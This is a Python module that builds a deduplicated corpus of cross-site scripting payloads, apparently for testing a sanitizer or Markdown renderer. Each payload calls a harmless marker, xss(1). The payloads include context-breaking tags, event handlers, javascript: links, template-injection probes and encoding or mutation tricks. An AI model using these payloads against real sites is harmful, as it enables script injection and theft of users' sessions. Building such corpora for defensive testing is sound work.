"""A corpus of texts that try to run script in a page: each calls `xss(1)` if anything lets it."""

from itertools import product

RUN = "xss(1)"
_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
)
_TAGS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<style onload={RUN}>a{{}}</style>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<p style="animation:x" onanimationstart={RUN}>x</p>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<base href="javascript:{RUN}//">',
    f"<link rel=stylesheet href=x onerror={RUN}>",
)
_ATTRIBUTES = tuple(
    f"{quote} {event}={RUN} x={quote}"
    for quote, event in product(
        ('"', "'", "`", "", "&quot;", "&#34;"), ("onerror", "onload", "onfocus autofocus", "onclick")
    )
)
_LINKS = tuple(
    f"[x]({target})"
    for target in (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java&#10;script:{RUN}",
        f"&#x6a;avascript:{RUN}",
        f"<javascript:{RUN}>",
        f"<java\tscript:{RUN}>",
        f"%6aavascript:{RUN}",
        f"vbscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"//javascript:{RUN}",
        f'x "{RUN}" onclick={RUN}',
        f'https://example.org/" onclick="{RUN}',
        f'https://example.org/?"><img src=x onerror={RUN}>',
    )
)
_MARKDOWN = (
    *_LINKS,
    *(f"!{link}" for link in _LINKS),
    *(f"{link.replace('(', '[ref]', 1).split('[ref]')[0]}[r]\n\n[r]: javascript:{RUN}" for link in _LINKS[:1]),
    f"<javascript:{RUN}>",
    f"`<img src=x onerror={RUN}>`",
    f"```\n</code><script>{RUN}</script>\n```",
    f'``` "><img src=x onerror={RUN}>\nx\n```',
    f"# <img src=x onerror={RUN}>",
    f"[^a]\n\n[^a]: <img src=x onerror={RUN}>",
    f"| <img src=x onerror={RUN}> |\n| --- |\n| <svg onload={RUN}> |",
    f'*[x]: " onclick={RUN}',
)
_SHORTCODES = tuple(
    f'{{{{ {name}="{text}" }}}}'
    for name, text in product(
        ('pullquote text="x" speaker', 'stat value="1" label', "pullquote text"),
        (
            f"<img src=x onerror={RUN}>",
            f'\\"><script>{RUN}</script>',
            f"</p><svg onload={RUN}>",
            f"' onclick={RUN} x='",
        ),
    )
)
_TEMPLATES = tuple(
    f"{start}{words}{end}"
    for (start, end), words in product(
        (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("{{{", "}}}"), ("<%=", "%>")),
        (f" {RUN} ", " constructor.constructor('xss(1)')() ", " self.__init__.__globals__ "),
    )
)
_ODD = (
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<script\u2028>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
    f"<\u017fcript>{RUN}</\u017fcript>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<<script>{RUN}//<</script>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<?xml-stylesheet href="javascript:{RUN}"?>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    f'<table><td background="javascript:{RUN}">x</table>',
    f'<a href="https://example.org/" style="background:url(javascript:{RUN})">x</a>',
)

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(start + tag for start, tag in product(_BREAKS, _TAGS)),
            *_ATTRIBUTES,
            *_MARKDOWN,
            *_SHORTCODES,
            *_TEMPLATES,
            *_ODD,
        )
    )
)
"""All texts, each once: tags after what could end the text around them, attributes, Markdown, odd spellings."""
